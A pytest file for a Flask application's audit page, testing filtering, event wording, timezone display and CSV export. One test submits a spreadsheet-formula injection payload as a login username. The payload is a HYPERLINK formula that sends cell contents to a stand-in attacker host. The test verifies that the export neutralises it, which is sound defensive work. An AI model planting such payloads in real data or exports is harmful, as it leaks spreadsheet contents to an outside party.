"""The audit page: filterable by entity and by user, each event in a sentence, times in the
plant zone with its abbreviation."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient

from app.models import User
from app.services.accounts import users
from tests.clock import CLOCK
from tests.routes.conftest import Browser, csrf_token


def test_audit_page_filters_by_entity_and_user(
    signed_in: Callable[..., Browser], make_user: Callable[..., User], session: object
) -> None:
    browser = signed_in("qa", "admin")
    admin = browser.user  # type: ignore[attr-defined]
    target = make_user("operator", username="target1")
    other = make_user("warehouse", username="other1")
    users.deactivate_user(session, actor=admin, user_id=target.id, reason="moved site", clock=CLOCK)  # type: ignore[arg-type]

    page = browser.client.get(f"/audit/?entity_type=user&entity_id={target.id}").get_data(
        as_text=True
    )
    assert "user.deactivated" in page and "moved site" in page
    assert f"user {other.id}" not in page

    page = browser.client.get(f"/audit/?user={admin.username}").get_data(as_text=True)
    assert "user.deactivated" in page and "login.succeeded" in page
    assert "user.created" not in page  # those were made by the CLI actor

    # Each event in a sentence with the actor's name; the stored action beside it for inspectors.
    assert (
        f'<strong class="audit-sentence">Account deactivated by {admin.full_name}</strong>' in page
    )
    assert (
        '<code class="audit-action" title="The action as the trail stores it">user.deactivated'
        in page
    )
    # Plant zone (Europe/Berlin in tests) with its abbreviation: 2026-11-22 10:00 CET (CEST in
    # summer; on PostgreSQL the trail's time is the database's own clock).
    assert re.search(r">\d{4}-\d\d-\d\d \d\d:\d\d CES?T</time>", page)
    assert not re.search(r"[+-]\d\d:\d\d<", page)  # no offset in the text people read


def test_audit_export_is_a_csv_of_the_filtered_events(
    signed_in: Callable[..., Browser], make_user: Callable[..., User]
) -> None:
    browser = signed_in("qa")
    target = make_user("operator", username="exported")
    response = browser.client.get(f"/audit/export.csv?entity_type=user&entity_id={target.id}")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:4] == ["id", "occurred_at", "actor_username", "action"]
    assert [r[3] for r in rows[1:]] == ["user.created"]
    assert rows[1][1].endswith("+00:00")


def test_audit_export_never_hands_a_spreadsheet_a_formula(
    signed_in: Callable[..., Browser], client: FlaskClient
) -> None:
    """A failed sign-in's username is attacker-chosen text; exported, it must stay text."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    token = csrf_token(client)
    client.post("/login", data={"username": attack, "password": "x", "csrf_token": token})
    qa = signed_in("qa")
    response = qa.client.get("/audit/export.csv")
    cells = [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert any(c.startswith("'=hyperlink(") or c.startswith("'=HYPERLINK(") for c in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_a_formula_is_written_as_text(start: str) -> None:
    from app.services.core.spreadsheet import csv_text, safe_cell

    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert safe_cell(-25) == -25  # a number stays a number
    assert safe_cell("ASC-2611-01") == "ASC-2611-01"
    assert csv_text(["a"], [[f"{start}1"]]).splitlines()[1].lstrip('"').startswith("'")
